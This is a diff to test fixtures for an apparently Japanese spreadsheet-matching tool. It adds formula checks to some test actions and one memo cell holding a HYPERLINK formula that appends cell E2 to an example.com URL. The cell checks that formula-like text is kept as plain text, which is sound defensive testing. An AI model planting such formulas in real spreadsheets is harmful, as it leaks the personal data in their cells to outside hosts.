@@ -3,7 +3,7 @@ import type { FixPreview, MatchView } from '../../src/shared/rpc';
 import { defaultSettingsRows, parseSettings } from '../../src/core/sheets/settings';
 import { generateDemoBook, type DemoBook } from '../../src/local/demo/index';
 import type { Session } from '../../src/local/session';
-import { harnessSession, type WritingAction } from '../support/fault-harness';
+import { CELL_LINK, harnessSession, type WritingAction } from '../support/fault-harness';
 import { rpc } from '../local/helpers/session';
 
 const ROSTER_HEADER = [
@@ -112,6 +112,8 @@ export function workedOnSession(): Session {
     results.getRange(r, 13).setFormula(`=D${r}&"さん"`);
   }
   results.getRange(2, 10).setValue('電話済み');
+  // A メモ that starts like a formula, typed into the plain-text column: written back, it must stay text.
+  results.getRange(rows.length, 10).setValue('=HYPERLINK("https://example.com/?"&E2,"確認")');
   results.getRange(2, 1, 1, 13).setBackground('#fff2cc');
   const first = view.requests.flatMap((r) => r.pairs)[0];
   const requests = session.emu.sheetValues('依頼');
@@ -132,11 +134,13 @@ export const WRITING_ACTIONS: WritingAction[] = [
   },
   {
     name: '検証（初回）',
+    formulas: CELL_LINK,
     arrange: rosterSession,
     act: (s) => s.run('runValidation') as never,
   },
   {
     name: '検証（前回の印がある）',
+    formulas: CELL_LINK,
     arrange: () => {
       const session = rosterSession();
       rpc(session, 'runValidation');
@@ -179,6 +183,8 @@ export const WRITING_ACTIONS: WritingAction[] = [
   },
   {
     name: 'マッチング（職員が承認・記入した後の再実行）',
+    // Staff's own formula, moved with its pair.
+    formulas: /^=D\d+&"さん"$/,
     arrange: workedOnSession,
     act: (s) => s.run('runMatching') as never,
   },
